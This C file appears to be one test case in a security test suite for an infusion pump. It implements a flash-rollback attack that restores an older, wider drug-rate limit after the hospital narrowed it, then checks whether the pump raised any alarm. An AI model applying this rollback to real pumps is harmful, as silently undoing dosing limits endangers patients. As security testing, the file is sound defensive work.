// SPDX-License-Identifier: Apache-2.0
/*
 * ATK-11: the flash is read out, and written back after the hospital narrowed the drug library.
 *
 * The attacker had the pump on his bench once (or twice) and can read and write its flash chip; the
 * counters inside the processor are out of his reach.
 */
#include "attack.h"

#include <stdio.h>
#include <stdlib.h>

enum {
    DRUG = 3,
    WIDE_ULH = 900 * 1000, // what the hospital used at first
    NARROW_ULH = 120 * 1000,
    FLASH_SIZE = PUMP_SECTOR_COUNT * PUMP_SECTOR_SIZE,
};

static uint8_t *read_flash(const char *path)
{
    uint8_t *bytes = malloc(FLASH_SIZE);
    FILE *file = fopen(path, "rb");
    if (bytes == NULL || file == NULL || fread(bytes, 1, FLASH_SIZE, file) != FLASH_SIZE)
        attack_error("cannot read the flash");
    fclose(file);
    return bytes;
}

static void write_flash(const char *path, const uint8_t *bytes)
{
    FILE *file = fopen(path, "r+b");
    if (file == NULL || fwrite(bytes, 1, FLASH_SIZE, file) != FLASH_SIZE || fclose(file) != 0)
        attack_error("cannot write the flash");
}

static uint32_t limit_now(struct attack *attack, struct attack_line *line)
{
    struct pump_frame ask = {.type = PUMP_CMD_LIB_GET, .n = 1, .payload = {DRUG}};
    struct pump_frame reply;
    if (attack_ask(attack, line, &ask, 2000, &reply) != PUMP_DONE || reply.n < 10)
        attack_error("the pump does not tell its limits");
    return pump_get32(reply.payload + 2);
}

static void put(struct attack *attack, struct attack_line *line, uint32_t rate_ulh)
{
    struct pump_frame library = attack_library(DRUG, PUMP_THERAPY_HYDRATION, rate_ulh, 1000000);
    if (attack_honest(attack, line, &library) != PUMP_DONE)
        attack_error("the technician could not set the library");
}

static void run(struct attack *attack)
{
    struct attack_state state;
    struct attack_line service;
    if (attack->options.flash == NULL || attack->options.platform == ATTACK_QEMU) {
        attack_skip(attack, "the simulated machine's flash is out of reach: runs on the host");
        return;
    }
    attack_technician(attack, &service);
    put(attack, &service, WIDE_ULH);
    uint8_t *copy = read_flash(attack->options.flash);
    put(attack, &service, NARROW_ULH);
    attack_measure(attack, "limit_before", limit_now(attack, &service));
    write_flash(attack->options.flash, copy);
    free(copy);
    attack_reset(attack);
    attack_wait(attack, 1000, &state);
    uint32_t limit = limit_now(attack, &service);
    attack_measure(attack, "limit_after", limit);
    attack_measure(attack, "alarms_after", attack_value(&state, "alarms"));
    if (limit == WIDE_ULH)
        attack_succeeds(attack, "the old limit holds again, ul/h", limit);
    if (attack_value(&state, "first_security") == 0)
        attack_succeeds(attack, "nobody was told", 0);
}

const struct attack_info attack_info = {
    "ATK-11", "flash cloned back to an older state",
    "rollback of stored state; IEC 62443-4-2 CR 3.4 (integrity of information)", run};
